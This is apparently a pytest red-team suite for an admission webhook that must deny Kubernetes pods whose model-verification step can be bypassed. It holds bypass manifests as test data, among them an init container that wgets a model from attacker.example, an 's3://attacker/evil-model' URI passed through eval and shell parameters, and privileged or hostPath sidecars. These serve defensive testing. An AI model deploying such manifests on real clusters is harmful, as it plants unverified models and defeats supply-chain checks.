"""Red team, round 2: a pod-start verifier counts only if it checks what the server loads.

Each attack is an AdmissionReview a deployer could send to a real `mlgate serve` over TLS with
the shipped policies (production namespace). The legitimate shape (fetch into an emptyDir,
verify it with the digest-pinned verifier image, serve that directory read-only) is allowed;
each attack changes one thing and must be denied by SC-POD-START-VERIFY (or SC-URI-BOUND)
with a message naming the mismatch.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from mlgate.subjects.base import normalize_uri
from webhook_support import (
    ATTESTED_URI,
    MODELS_RO,
    RELEASE_BOT,
    VERIFIER_DIGEST,
    Server,
    denied_controls,
    verifier_container,
    warned_controls,
)

# Session-scoped fixtures: xdist interleaves other modules' tests with these on a worker, and a
# module-scoped fixture would be built again after each interleaving (once per worker is enough).


@pytest.fixture(scope="session")
def server(shipped_server: Server) -> Server:
    return shipped_server


def fetch() -> dict[str, Any]:
    return {
        "name": "fetch-model",
        "image": "amazon/aws-cli:2.17.0",
        "args": ["s3", "sync", ATTESTED_URI, "/models"],
        "volumeMounts": [{"name": "models", "mountPath": "/models"}],
    }


def verify(credit_digest: str, **extra: Any) -> dict[str, Any]:
    return verifier_container(credit_digest, **extra)


def serve(*args: str, mounts: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    return {
        "name": "server",
        "image": "registry.example/ml/onnx-server:1.4",
        "args": list(args or ("--model", "/models")),
        "volumeMounts": [dict(MODELS_RO)] if mounts is None else mounts,
    }


def pod(
    credit_evidence: dict[str, str],
    credit_digest: str,
    *,
    init: list[dict[str, Any]] | None = None,
    containers: list[dict[str, Any]] | None = None,
    volumes: list[dict[str, Any]] | None = None,
    namespace: str = "ml-prod",
) -> dict[str, Any]:
    """The legitimate shape unless a part is replaced."""
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "credit", "namespace": namespace},
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": {"app": "credit"}},
            "template": {
                "metadata": {"labels": {"app": "credit"}, "annotations": dict(credit_evidence)},
                "spec": {
                    "initContainers": [fetch(), verify(credit_digest)] if init is None else init,
                    "containers": [serve()] if containers is None else containers,
                    "volumes": [{"name": "models", "emptyDir": {}}] if volumes is None else volumes,
                },
            },
        },
    }


def decide(
    server: Server, obj: dict[str, Any], user: dict[str, Any] = RELEASE_BOT, **kw: Any
) -> dict:
    return server.decide(obj, user=user, **kw)


def assert_denied(server: Server, resp: dict[str, Any], control: str, *needles: str) -> None:
    assert resp["allowed"] is False, resp
    assert control in denied_controls(resp), resp
    record = json.loads(server.decision_record(resp))
    messages = json.dumps([v["message"] for v in record["decision"]["violations"]
                           if v["control"] == control])  # fmt: skip
    for needle in needles:
        assert json.dumps(needle)[1:-1] in messages, (needle, messages)


def test_the_legitimate_shape_is_allowed(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    resp = decide(server, pod(credit_evidence, credit_digest))
    assert resp["allowed"] is True, resp


# -- 1. the verifier checks what the server loads ------------------------------------------


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (("--model", ATTESTED_URI), f"loads {ATTESTED_URI} itself"),
        (("--model", ATTESTED_URI, "--download-dir", "/models"), f"loads {ATTESTED_URI} itself"),
    ],
    ids=["remote-uri", "remote-uri-with-download-dir"],
)
def test_a_server_that_downloads_the_model_itself_is_not_verified(
    server: Server, credit_evidence: dict, credit_digest: str, args: tuple[str, ...], needle: str
) -> None:
    resp = decide(server, pod(credit_evidence, credit_digest, containers=[serve(*args)]))
    assert_denied(server, resp, "SC-POD-START-VERIFY", needle, "/models")


def test_a_server_reading_another_volume_is_not_verified(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    other = serve(
        "--model", "/data", mounts=[{"name": "data", "mountPath": "/data", "readOnly": True}]
    )
    volumes = [{"name": "models", "emptyDir": {}}, {"name": "data", "emptyDir": {}}]
    resp = decide(server, pod(credit_evidence, credit_digest, containers=[other], volumes=volumes))
    assert_denied(server, resp, "SC-POD-START-VERIFY", "/data", "volume 'data'")


def test_a_server_reading_another_path_of_the_volume_is_not_verified(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    check = verify(credit_digest)
    check["args"][1] = "/models/checked"
    resp = decide(server, pod(credit_evidence, credit_digest, init=[fetch(), check],
                              containers=[serve("--model", "/models/served")]))  # fmt: skip
    assert_denied(server, resp, "SC-POD-START-VERIFY", "/models/served", "/models/checked")


def test_a_subpath_mount_at_the_same_path_is_another_directory(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    """Both mount /models, but the verifier sees subPath checked and the server subPath served."""
    check = verify(credit_digest, volumeMounts=[{**MODELS_RO, "subPath": "checked"}])
    srv = serve(mounts=[{**MODELS_RO, "subPath": "served"}])
    resp = decide(
        server, pod(credit_evidence, credit_digest, init=[fetch(), check], containers=[srv])
    )
    assert_denied(server, resp, "SC-POD-START-VERIFY", "served", "checked")


def test_a_model_in_the_server_image_is_not_the_verified_volume(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    srv = serve("--model", "/opt/model", mounts=[])
    resp = decide(server, pod(credit_evidence, credit_digest, containers=[srv]))
    assert_denied(server, resp, "SC-POD-START-VERIFY", "/opt/model")


def test_a_model_path_in_an_environment_variable_is_read(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    srv = serve("--port", "8080")
    srv["env"] = [{"name": "MODEL_PATH", "value": "/data/model"}]
    srv["volumeMounts"].append({"name": "data", "mountPath": "/data", "readOnly": True})
    volumes = [{"name": "models", "emptyDir": {}}, {"name": "data", "emptyDir": {}}]
    resp = decide(server, pod(credit_evidence, credit_digest, containers=[srv], volumes=volumes))
    assert resp["allowed"] is False, resp
    assert "/data/model" in json.dumps(resp)


def test_a_shell_command_that_loads_a_remote_model_is_read(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    srv = serve()
    srv["command"] = ["sh", "-c", f"exec vllm serve {ATTESTED_URI} --port 8000"]
    srv["args"] = []
    resp = decide(server, pod(credit_evidence, credit_digest, containers=[srv]))
    assert_denied(server, resp, "SC-POD-START-VERIFY", f"loads {ATTESTED_URI} itself")


# -- 2. nothing can change the verified bytes afterwards -----------------------------------


def test_a_sidecar_with_the_volume_writable_voids_the_check(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    sidecar = {"name": "sync", "image": "busybox:1.36", "command": ["sleep", "inf"],
               "volumeMounts": [{"name": "models", "mountPath": "/m"}]}  # fmt: skip
    resp = decide(server, pod(credit_evidence, credit_digest, containers=[serve(), sidecar]))
    assert_denied(server, resp, "SC-POD-START-VERIFY", "sync", "writable")


def test_the_server_itself_must_mount_the_volume_read_only(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    srv = serve(mounts=[{"name": "models", "mountPath": "/models"}])
    resp = decide(server, pod(credit_evidence, credit_digest, containers=[srv]))
    assert_denied(server, resp, "SC-POD-START-VERIFY", "server", "writable")


def test_a_sidecar_init_container_started_before_the_verifier_keeps_writing(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    """restartPolicy: Always before the verifier: it keeps running next to the server."""
    side = {**fetch(), "name": "refresh", "restartPolicy": "Always"}
    resp = decide(server, pod(credit_evidence, credit_digest, init=[side, verify(credit_digest)]))
    assert_denied(server, resp, "SC-POD-START-VERIFY", "refresh", "writable")


def test_an_init_container_after_the_verifier_with_the_volume_writable(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    late = {**fetch(), "name": "late-fetch"}
    resp = decide(
        server, pod(credit_evidence, credit_digest, init=[fetch(), verify(credit_digest), late])
    )
    assert_denied(server, resp, "SC-POD-START-VERIFY", "late-fetch")


@pytest.mark.parametrize(
    "volume",
    [{"persistentVolumeClaim": {"claimName": "models"}}, {"hostPath": {"path": "/srv/models"}},
     {"nfs": {"server": "nfs.example", "path": "/models"}}],
    ids=["pvc", "hostpath", "nfs"],
)  # fmt: skip
def test_a_volume_other_pods_can_write_is_not_immutable(
    server: Server, credit_evidence: dict, credit_digest: str, volume: dict[str, Any]
) -> None:
    resp = decide(
        server, pod(credit_evidence, credit_digest, volumes=[{"name": "models", **volume}])
    )
    assert_denied(server, resp, "SC-POD-START-VERIFY", next(iter(volume)))


# -- 3. the verifier image is pinned --------------------------------------------------------


def test_an_unpinned_verifier_image_is_denied_in_production(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    tag = verify(credit_digest, image="ghcr.io/mlgate/mlgate-verifier:0.1.0")
    resp = decide(server, pod(credit_evidence, credit_digest, init=[fetch(), tag]))
    assert_denied(server, resp, "SC-POD-START-VERIFY", "not pinned by digest")
    resp = decide(
        server, pod(credit_evidence, credit_digest, init=[fetch(), tag], namespace="ml-staging")
    )
    assert "SC-POD-START-VERIFY" in warned_controls(resp)
    assert "SC-POD-START-VERIFY" not in denied_controls(resp)


# -- the verifier is not told to trust or check less ---------------------------------------


@pytest.mark.parametrize(
    ("extra_args", "env", "needle"),
    [
        (["--ignore", "extra.onnx"], [], "--ignore"),
        (["--policies", "/models/trust"], [], "--policies"),
        (["--environment", "development"], [], "development"),
        ([], [{"name": "MLGATE_ENVIRONMENT", "value": "development"}], "development"),
        ([], [{"name": "MLGATE_POLICIES", "value": "/models/trust"}], "/models/trust"),
        (["--namespace", "ml-dev"], [], "ml-dev"),
    ],
    ids=["ignore", "policies", "environment-flag", "environment-env", "policies-env", "namespace"],
)
def test_a_verifier_told_to_trust_or_check_less_does_not_count(
    server: Server,
    credit_evidence: dict,
    credit_digest: str,
    extra_args: list[str],
    env: list,
    needle: str,
) -> None:
    check = verify(credit_digest)
    check["args"] += extra_args
    check["env"] += env
    resp = decide(server, pod(credit_evidence, credit_digest, init=[fetch(), check]))
    assert_denied(server, resp, "SC-POD-START-VERIFY", needle)


def test_a_person_cannot_claim_a_kserve_copy_of_a_content_addressed_model(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    """The KServe source annotation, written by a deployer, names an oci digest; the server
    reads /mnt/models, which an init container of the deployer's fills."""
    annotations = {
        **credit_evidence,
        "internal.serving.kserve.io/storage-initializer-sourceuri":
            f"oci://registry.example.com/models/credit-scorer@{credit_digest}",
    }  # fmt: skip
    fill = {"name": "fill", "image": "busybox:1.36",
            "command": ["sh", "-c", "wget -O /mnt/models/model.onnx http://attacker.example/m"],
            "volumeMounts": [{"name": "m", "mountPath": "/mnt/models"}]}  # fmt: skip
    srv = serve("--model_dir=/mnt/models", mounts=[{"name": "m", "mountPath": "/mnt/models"}])
    obj = pod(annotations, credit_digest, init=[fill], containers=[srv],
              volumes=[{"name": "m", "emptyDir": {}}])  # fmt: skip
    resp = decide(server, obj)
    assert_denied(server, resp, "SC-POD-START-VERIFY")


# -- 4. case in URIs ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("attested", "deployed", "same"),
    [
        ("s3://Bucket/x", "s3://bucket/x", False),  # legacy us-east-1 buckets keep their case
        ("gs://bucket/Model", "gs://bucket/model", False),  # object names are case-sensitive
        ("hf://Org/Model", "hf://org/model", False),  # repo ids: compare exactly (fail closed)
        ("pvc://Claim/x", "pvc://claim/x", False),
        ("S3://bucket/x/", "s3://bucket/x", True),  # scheme: case-insensitive (RFC 3986)
        ("https://Models.Example.COM/a", "https://models.example.com/a", True),  # DNS host
        ("https://models.example.com/A", "https://models.example.com/a", False),
        ("oci://Registry.Example.com/m@sha256:" + "a" * 64,
         "oci://registry.example.com/m@sha256:" + "a" * 64, True),
        ("https://HuggingFace.co/Org/Model", "hf://Org/Model", True),
    ],
)  # fmt: skip
def test_only_case_insensitive_parts_are_folded(attested: str, deployed: str, same: bool) -> None:
    assert (normalize_uri(attested) == normalize_uri(deployed)) is same


def test_a_bucket_differing_only_in_case_is_not_the_attested_one(
    server: Server, credit_evidence: dict
) -> None:
    uri = ATTESTED_URI.replace("ml-models-prod", "ML-Models-Prod")
    obj = {
        "apiVersion": "serving.kserve.io/v1beta1",
        "kind": "InferenceService",
        "metadata": {
            "name": "credit",
            "namespace": "ml-prod",
            "annotations": dict(credit_evidence),
        },
        "spec": {"predictor": {"model": {"modelFormat": {"name": "onnx"}, "storageUri": uri}}},
    }
    resp = decide(server, copy.deepcopy(obj))
    assert_denied(server, resp, "SC-URI-BOUND", f"expected {uri}")


def test_only_trusted_verifier_builds_count_when_listed(
    tmp_path: Path, credit_evidence: dict, credit_digest: str
) -> None:
    """supply_chain.verifier_image_digests: a pinned build that is not listed is refused."""
    import shutil

    from mlgate.engine import Engine
    from mlgate.subjects import RequestInfo, subject_from_object
    from webhook_support import REPO

    policies = tmp_path / "policies"
    shutil.copytree(REPO / "policies", policies)
    params = policies / "params.yaml"
    text = params.read_text()
    assert "verifier_image_digests: []" in text
    params.write_text(text.replace("verifier_image_digests: []",
                                   f'verifier_image_digests: ["{VERIFIER_DIGEST}"]'))  # fmt: skip
    info = RequestInfo(username="release-bot", groups=("mlops-release-managers",),
                       namespace_labels={"mlgate.io/environment": "production"})  # fmt: skip
    engine = Engine.from_path(policies)
    try:
        trusted = engine.evaluate_subject(
            subject_from_object(pod(credit_evidence, credit_digest), info)
        )
        assert trusted.allowed is True, trusted.violations
        other = "ghcr.io/mlgate/mlgate-verifier@sha256:" + "0" * 64
        obj = pod(
            credit_evidence, credit_digest, init=[fetch(), verify(credit_digest, image=other)]
        )
        decision = engine.evaluate_subject(subject_from_object(obj, info))
        assert decision.denied_controls == ["SC-POD-START-VERIFY"]
        assert "is not a trusted verifier build" in decision.violations[0].message
    finally:
        engine.close()


# -- final pass: models hidden where the adapter did not look -----------------------------

EVIL = "s3://attacker/evil-model"


def beside_a_pinned_model(
    credit_evidence: dict, credit_digest: str, init=(), containers=()
) -> dict:
    """A content-addressed, signed model (needs no verifier) and something next to it."""
    server = serve(
        "--model", f"oci://registry.example.com/models/credit-scorer@{credit_digest}", mounts=[]
    )
    return pod(
        credit_evidence,
        credit_digest,
        init=list(init),
        containers=[server, *containers],
        volumes=[],
    )


def test_the_pinned_model_alone_is_allowed(
    server: Server, credit_evidence: dict, credit_digest: str
) -> None:
    assert decide(server, beside_a_pinned_model(credit_evidence, credit_digest))["allowed"] is True


@pytest.mark.parametrize(
    "hidden",
    [
        # a sidecar init container (it keeps running) that claims to verify but serves
        lambda d: {"name": "helper", "image": "registry.example/ml/onnx-server:1.4",
                   "restartPolicy": "Always", "args": ["--model", EVIL],
                   "env": [{"name": "MLGATE_EXPECT_DIGEST", "value": d}]},
        # the verifier's entry-point form, but on a server image whose entry point serves
        lambda d: {"name": "helper", "image": "registry.example/ml/onnx-server:1.4",
                   "args": ["--model-dir", "/tmp", "--expect-digest", d, "--model", EVIL]},
        # on the verifier image, `--model` is still not a flag mlgate verify documents
        lambda d: {**verify(d), "args": ["--model-dir", "/models", "--expect-digest", d,
                                         "--model", EVIL]},
    ],
    ids=["sidecar-claims-to-verify", "entrypoint-form-on-a-server-image", "verifier-image"],
)  # fmt: skip
def test_a_model_in_an_init_container_that_claims_to_verify_is_seen(
    server: Server, credit_evidence: dict, credit_digest: str, hidden: Any
) -> None:
    resp = decide(
        server, beside_a_pinned_model(credit_evidence, credit_digest, init=[hidden(credit_digest)])
    )
    assert resp["allowed"] is False, resp
    assert EVIL in server.decision_record(resp)


@pytest.mark.parametrize(
    ("command", "env"),
    [
        (["sh", "-c", 'eval "$CMD"'], [{"name": "CMD", "value": f"vllm serve {EVIL}"}]),
        (["sh", "-c", 'exec "$0" "$@"', "vllm", "serve", EVIL], []),
        (["/bin/bash", "-ec", 'exec vllm serve "$1" --port 8000', "bash", EVIL], []),
        (["sh", "-c", "exec python3 -m vllm.entrypoints.openai.api_server $@", "sh", "--model",
          EVIL], []),
    ],
    ids=["eval", "dollar-0-and-at", "dollar-1", "dollar-at-flags"],
)  # fmt: skip
def test_a_model_passed_through_shell_parameters_is_seen(
    server: Server, credit_evidence: dict, credit_digest: str, command: list[str], env: list
) -> None:
    side = {"name": "side", "image": "python:3.11", "command": command, "env": env}
    resp = decide(server, beside_a_pinned_model(credit_evidence, credit_digest, containers=[side]))
    assert resp["allowed"] is False, resp
    assert EVIL in server.decision_record(resp)


@pytest.mark.parametrize(
    ("extra", "volume", "needle"),
    [
        ({"securityContext": {"privileged": True}}, None, "privileged"),
        ({"volumeMounts": [{"name": "node", "mountPath": "/host"}]},
         {"name": "node", "hostPath": {"path": "/var/lib/kubelet"}}, "hostPath"),
    ],
    ids=["privileged", "hostpath"],
)  # fmt: skip
def test_a_container_that_reaches_the_node_can_rewrite_the_verified_copy(
    server: Server,
    credit_evidence: dict,
    credit_digest: str,
    extra: dict,
    volume: dict | None,
    needle: str,
) -> None:
    side = {"name": "agent", "image": "busybox:1.36", "command": ["sleep", "inf"], **extra}
    volumes = [{"name": "models", "emptyDir": {}}] + ([volume] if volume else [])
    resp = decide(
        server, pod(credit_evidence, credit_digest, containers=[serve(), side], volumes=volumes)
    )
    assert_denied(server, resp, "SC-POD-START-VERIFY", "'agent'", needle)
